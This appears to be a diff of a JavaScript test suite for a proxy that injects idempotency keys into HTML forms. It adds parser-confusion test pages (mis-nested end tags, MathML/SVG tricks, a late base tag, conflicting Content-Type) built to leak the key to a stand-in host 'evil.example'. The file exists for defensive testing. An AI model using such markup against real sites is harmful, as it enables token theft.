@@ -10,6 +10,11 @@ import { BASE, start } from "./harness.mjs";
 
 const UUID7 = /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
 const KEY_FIELD = /<input type="hidden" name="idempotency_key" value="([^"]+)">/g;
+// The page's own base, placed with the first key at a form's end when no
+// base came before: a browser takes the first, so none later moves a key.
+const PIN = '<base href="">';
+/** `page` as the layer sends it with its first form keyed: the pin before that form's end tag. */
+const pinned = (page) => page.replace("</form>", `${PIN}</form>`);
 
 const PAGE = `<!doctype html><html><body>
 <form method="post" action="/orders" id="a"><input name="item" value="tea"><button>Buy</button></form>
@@ -68,7 +73,21 @@ const MISREAD = {
   // form alone, and the later GET button, still in the div, joins it.
   "/misread/left-open": `<form method="post" action="/orders"><div><input name="q"></form><button formmethod="get" formaction="/preview">Look</button></div>`,
   "/misread/left-open-id": `<form method="post" action="/orders" id="l"><section></form><button formmethod="get">Look</button></section>`,
+  // End tags a browser ignores (a special element above the match) or
+  // answers by moving elements (a formatting one): the <div> stays open in
+  // the form past its </form>.
+  "/misread/span-div": `<form method="post" action="/orders"><input name="q"><span><div></span></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  "/misread/b-div": `<form method="post" action="/orders" id="b"><input name="q"><b><div></b></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  // SVG and MathML corners the rewriter models otherwise: a GET button, a
+  // base, a textarea that swallows a key, each hidden from it.
+  "/misread/mglyph": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><math><mi><mglyph><style><p><button form="x" formmethod="get" formaction="https://evil.example/c">Look</button></style></mglyph></mi></math>`,
+  "/misread/hidden-base": `<math><mi><mglyph><style><p><base href="https://evil.example/"></style></mglyph></mi></math><form method="post" action="orders"><input name="q"><button>Pay</button></form>`,
+  "/misread/svg-in-svg": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><form id="g" action="https://evil.example/c"><button>Send</button></form><svg><svg><p><textarea name="t" form="g"></svg></svg>`,
 };
+// Markup common on real pages that reads alike to both: keys as usual.
+const STILL_KEYED = `<!doctype html><form method="post" action="/orders"><button><svg viewBox="0 0 1 1"><title>Cart</title><path d="M0 0"/></svg>Pay</button></form>
+<form method="post" action="/orders"><table><tr><td><input name="q"></table><div><span>Total</div><ul><li>one<li>two</ul><textarea name="note"></textarea><button>Pay</button></form>
+<math><mi>x</mi><mo>=</mo><mn>1</mn></math><form method="post" action="/orders" id="after-math"><button>Pay</button></form>`;
 // Pages a browser reads otherwise than the rewriter at their very end, or
 // in another charset than the rewriter (the red team's findings, each sent
 // a key to another origin or into a URL in Chromium): served as bytes.
@@ -92,6 +111,8 @@ const ENDS_AND_CHARSETS = {
     '<meta charset="iso-2022-jp"><form method="get" action="/search"><input name="q">\x1b$B</form><form method="post" action="/orders">\x1b(B<button>Pay</button></form>',
   ],
   // A UTF-16 byte order mark, which a browser obeys over the header.
+  // Two Content-Type values: a browser reads the last, here XML.
+  "/ends/two-types": ["text/html;a=b, application/xhtml+xml", FOREIGN_PAGE],
   "/ends/utf-16-bom": [
     "text/html; charset=utf-8",
     Buffer.concat([
@@ -102,9 +123,8 @@ const ENDS_AND_CHARSETS = {
     ]),
   ],
 };
-// Bases after a keyed form with no id (invalid HTML, honoured by browsers):
-// the one on another origin taken out, the <noscript> holding one emptied;
-// the base on the page's origin and the other <noscript> kept.
+// Bases after a keyed form with no id (invalid HTML, honoured by browsers,
+// which take the first): the page's own base goes before the first key.
 const LATE_BASE = `<!doctype html><form method="post" action="orders"><p>Pay now<button>Pay</button></form>
 <base href="/shop/"><base href="https://evil.example/"><noscript><BASE href="https://evil.example/"></noscript>
 <noscript><p>Turn on JavaScript</p></noscript>`;
@@ -202,10 +222,13 @@ function server() {
         xhtml ? `<html xmlns="http://www.w3.org/1999/xhtml"><body>${FOREIGN_PAGE}</body></html>` : MISREAD[req.url],
       );
     }
-    if (["/elsewhere", "/based", "/late-base"].includes(req.url)) {
+    if (["/elsewhere", "/based", "/late-base", "/still-keyed"].includes(req.url)) {
       res.writeHead(200, { "content-type": "text/html" });
       // The page's own origin, as the worker is reached.
-      return res.end({ "/based": BASED, "/late-base": LATE_BASE }[req.url] ?? ELSEWHERE.replace("ORIGIN", BASE));
+      return res.end(
+        { "/based": BASED, "/late-base": LATE_BASE, "/still-keyed": STILL_KEYED }[req.url] ??
+          ELSEWHERE.replace("ORIGIN", BASE),
+      );
     }
     if (req.url === "/ends/base") {
       res.writeHead(200, { "content-type": "text/html" });
@@ -431,7 +454,10 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
     const placedAt = html.indexOf('<input type="hidden" form="plain"');
     assert.ok(placedAt > html.lastIndexOf("</html>"), "at the page's end, once every control was seen");
     assert.equal([...html.matchAll(KEY_FIELD)].length, 1, "and the form with no id, before its end tag");
-    assert.match(html, /No id<\/button><input type="hidden" name="idempotency_key" value="[^"]+"><\/form>/);
+    assert.match(
+      html,
+      /No id<\/button><base href=""><input type="hidden" name="idempotency_key" value="[^"]+"><\/form>/,
+    );
     const based = formsOf(await (await proxy.fetch("/based")).text());
     assert.deepEqual(based.relative, [], "the base sends it to another origin");
     assert.equal(based.ownurl.length, 1, "no action: the page's own URL, whatever the base");
@@ -448,19 +474,22 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
     assert.doesNotMatch(await xhtml.text(), /idempotency_key/, "an XHTML page is XML: never rewritten");
   });
 
-  test("a base after a keyed form that would send its key elsewhere is taken out; one on the page's origin stays", async () => {
+  test("a base after a keyed form moves no key: the page's own base goes first, with the first key", async () => {
     const html = await (await proxy.fetch("/late-base")).text();
     const keys = [...html.matchAll(KEY_FIELD)].map((m) => m[1]);
     assert.equal(keys.length, 1, html);
     assert.match(keys[0], UUID7);
-    assert.equal(
-      html.replace(KEY_FIELD, ""),
-      LATE_BASE.replace('<base href="https://evil.example/">', "<base>").replace(
-        '<noscript><BASE href="https://evil.example/"></noscript>',
-        "<noscript></noscript>",
-      ),
-      "the foreign base's href and the <noscript> holding one taken out; every other byte as sent",
-    );
+    assert.ok(html.indexOf(PIN) < html.indexOf(keys[0]), "the pin, then the key");
+    assert.equal(html.replace(KEY_FIELD, ""), pinned(LATE_BASE), "every other byte as sent");
+    // A page with a base of its own before its forms keeps it first: no pin.
+    const based = await (await proxy.fetch("/based")).text();
+    assert.doesNotMatch(based, /<base href="">/);
+  });
+
+  test("markup common on real pages (an icon's SVG, a table, sloppy end tags, MathML) keeps its keys", async () => {
+    const html = await (await proxy.fetch("/still-keyed")).text();
+    assert.equal([...html.matchAll(KEY_FIELD)].length, 2, html);
+    assert.equal([...html.matchAll(NAMED_KEY_FIELD)].length, 1, html);
   });
 
   test("a page ending inside a tag, or read in another charset by a browser, gets no key there; every byte as sent", async () => {
@@ -473,7 +502,7 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
     // A base finished by nothing: a browser drops it at the end of the page,
     // and the form before it keeps its key.
     const html = await (await proxy.fetch("/ends/base")).text();
-    assert.equal(html.replace(KEY_FIELD, ""), UNFINISHED_BASE, html);
+    assert.equal(html.replace(KEY_FIELD, ""), pinned(UNFINISHED_BASE), html);
     assert.equal([...html.matchAll(KEY_FIELD)].length, 1, "the form with no id, before its end tag");
   });
 
@@ -495,7 +524,11 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
     assert.equal(keys.length, 1, "the form with no id before the tag has its key");
     assert.doesNotMatch(html, NAMED_KEY_FIELD, "one with an id none: the page was never seen whole");
     assert.match(keys[0], UUID7);
-    assert.equal(html.replace(KEY_FIELD, ""), HUGE_TAG_PAGE, "every other byte as the server sent it, none cut");
+    assert.equal(
+      html.replace(KEY_FIELD, ""),
+      pinned(HUGE_TAG_PAGE),
+      "every other byte as the server sent it, none cut",
+    );
     // Keyed, the first answer is whole too; its 4 MB body is over the stored
     // limit, so the replay has its status and headers (and no body).
     const key = crypto.randomUUID();
@@ -505,7 +538,7 @@ describe("IDEMPOTENCY_FORMS=inject", () => {
         headers: { "content-type": "application/json", "idempotency-key": key, "accept-encoding": "identity" },
         body: "{}",
       });
-    assert.equal((await (await send()).text()).replace(KEY_FIELD, ""), HUGE_TAG_PAGE);
+    assert.equal((await (await send()).text()).replace(KEY_FIELD, ""), pinned(HUGE_TAG_PAGE));
     const replay = await send();
     assert.equal(replay.status, 200);
     assert.equal(replay.headers.get("idempotent-replayed"), "true");
